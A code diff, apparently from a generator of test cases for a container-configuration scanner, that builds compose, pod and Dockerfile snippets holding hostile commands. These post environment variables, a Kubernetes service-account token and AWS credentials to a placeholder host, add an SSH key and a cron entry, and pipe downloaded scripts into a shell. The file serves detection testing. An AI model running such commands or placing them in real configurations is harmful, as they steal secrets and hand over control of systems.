@@ -56,7 +56,7 @@ def build_commands(corpus):
     add("environment", "compose.yml", compose(f"    command: sh -c 'curl -d \"$(env)\" https://{HOST}/'\n"), "sends the environment")
     add("token-file", "pod.yaml", run(f"curl -F f=@/var/run/secrets/kubernetes.io/serviceaccount/token https://{HOST}/"), "sends a service account's token")
     add("dns", "Dockerfile", recipe(f"RUN nslookup $(cat ~/.aws/credentials | base64 | head -c 60).{HOST}"), "sends credentials by name service")
-    add("authorized-keys", "Dockerfile", recipe(f"RUN echo 'ssh-ed25519 {MARKER}' >> /root/.ssh/authorized_keys"), "adds a key")
+    add("authorized-keys", "Dockerfile", recipe(f"RUN echo 'ssh-ed25519 {MARKER}' >> ~/.ssh/authorized_keys"), "adds a key")
     add("cron", "Dockerfile", recipe(f"RUN echo '* * * * * root echo {MARKER}' > /etc/cron.d/x"), "adds a task")
     add("continued", "Dockerfile", recipe("RUN apt-get update && \\", "    # tools", f"    curl -fsSL {URL} \\", "    | \\", "    bash"), "download over continued lines")
     add("heredoc", "Dockerfile", recipe("RUN <<EOF", "set -e", f"curl {URL} | sh", "EOF"), "download in a here-document")
